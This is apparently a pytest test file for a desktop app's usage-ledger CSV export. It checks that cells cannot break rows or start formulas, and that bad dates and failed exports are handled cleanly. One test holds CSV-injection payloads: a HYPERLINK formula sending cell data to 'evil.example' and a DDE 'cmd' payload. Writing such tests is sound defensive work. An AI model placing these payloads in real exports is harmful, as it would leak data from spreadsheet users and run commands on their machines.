"""CSV export of the usage ledger (issue 24, item 6): no cell can split a row or run as a formula, and a
record whose date cannot be shown costs only its date."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.core.usage import (
    CSV_COLUMNS,
    UsageLedger,
    UsageRecord,
    append_record,
    csv_text,
    export_csv,
    ledger_path,
    write_csv,
)

TEXT_COLUMNS = ("project", "node", "node_title", "provider", "model")
FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def rec(ts: int = 1_773_800_000_000, **kw: object) -> UsageRecord:
    fields: dict[str, object] = dict(
        ts=ts, project="/p/one", node="n1", node_title="Title", provider="openai", model="gpt-4o",
        input=10, output=20, cache_read=0, cache_write=0, reasoning=0, usd=0.5, estimated=False,
        saved_usd=0.0,
    )
    fields.update(kw)
    return UsageRecord(**fields)  # type: ignore[arg-type]


def physical_rows(text: str) -> list[str]:
    """How a naive importer splits the file: on every CR or LF."""
    return [row for row in text.replace("\r\n", "\n").replace("\r", "\n").split("\n") if row]


def check_safe(text: str, count: int) -> list[dict[str, str]]:
    assert len(physical_rows(text)) == count + 1  # one line per record, whatever the cells hold
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == count
    for row in rows:
        for column in TEXT_COLUMNS:
            cell = row[column]
            assert not any(ch in cell for ch in "\r\n\t\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029")
            assert not cell.lstrip(" ").startswith(FORMULA), cell
    return rows


def test_a_carriage_return_cannot_start_a_row_that_is_a_formula() -> None:
    hostile = [
        rec(node_title='report\r=HYPERLINK("http://evil.example/?"&A1,"click")'),
        rec(model="gpt\n@SUM(1+1)*cmd|' /C calc'!A0"),
        rec(project="\t=1+1", node="\r\n-2+3"),
        rec(provider="\uff1dcmd()", node_title="  =still a formula"),
        rec(node_title="line\u2028separator\x85next"),
    ]
    rows = check_safe(csv_text(hostile), len(hostile))
    assert rows[0]["node_title"] == 'report =HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows[1]["model"] == "gpt @SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[2]["project"] == "' =1+1" and rows[2]["node"] == "'  -2+3"
    assert rows[3]["provider"] == "'\uff1dcmd()" and rows[3]["node_title"] == "'  =still a formula"
    assert rows[4]["node_title"] == "line separator next"


def test_plain_text_is_exported_as_it_is() -> None:
    rows = check_safe(csv_text([rec(node_title='Plan "v2", — 漢字 😀', project="/p/a-b")]), 1)
    assert rows[0]["node_title"] == 'Plan "v2", — 漢字 😀' and rows[0]["project"] == "/p/a-b"


def test_a_date_far_in_the_future_costs_only_its_time_cell(tmp_path: Path) -> None:
    ledger = UsageLedger(ledger_path(tmp_path))
    far = rec(ts=9_999_999_999_999_999, node_title="far")  # the year 318857
    for r in (rec(node_title="before"), far, rec(node_title="after")):
        append_record(ledger.path, r)
    with open(ledger.path, "ab") as fh:
        fh.write(b"damaged line\n")
    dest = tmp_path / "out.csv"
    result = write_csv(ledger, dest)
    assert (result.rows, result.undated, result.corrupt) == (3, 1, 1)
    rows = check_safe(dest.read_text(encoding="utf-8"), 3)
    assert [r["node_title"] for r in rows] == ["before", "far", "after"]
    assert rows[1]["time"] == "" and rows[1]["ts"] == str(far.ts) and rows[0]["time"].startswith("2026-")
    assert export_csv(ledger, tmp_path / "again.csv") == 3
    assert csv_text([far]).splitlines()[1].startswith(",9999999999999999,")


def test_an_export_in_pieces_equals_the_whole_and_a_failed_one_leaves_nothing(tmp_path: Path) -> None:
    path = ledger_path(tmp_path)
    records = [rec(ts=1_700_000_000_000 + i * 60_000, node=f"n{i % 40}", node_title=f"t{i} \"q\"")
               for i in range(9_000)]  # about 2.5 MB: several blocks of the index
    path.write_bytes(b"".join(r.to_line() for r in records))
    dest = tmp_path / "usage.csv"
    assert export_csv(UsageLedger(path), dest) == len(records)
    assert dest.read_text(encoding="utf-8") == csv_text(records)
    old = dest.read_bytes()
    os.replace(path, tmp_path / "moved")
    path.mkdir()  # the ledger cannot be read
    with pytest.raises(OSError):
        write_csv(UsageLedger(path), dest)
    assert dest.read_bytes() == old and sorted(p.name for p in tmp_path.iterdir()) == [
        "moved", "usage.csv", "usage.jsonl", "usage.jsonl.index"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(*[st.text(max_size=12)] * 5), min_size=1, max_size=8))
def test_no_text_makes_a_cell_split_a_row_or_start_a_formula(texts: list[tuple[str, ...]]) -> None:
    records = [rec(**{c: t.encode("utf-8", "replace").decode("utf-8") for c, t in zip(TEXT_COLUMNS, row,
                                                                                     strict=True)})
               for row in texts]
    check_safe(csv_text(records), len(records))
    assert tuple(next(csv.reader(io.StringIO(csv_text(records))))) == CSV_COLUMNS
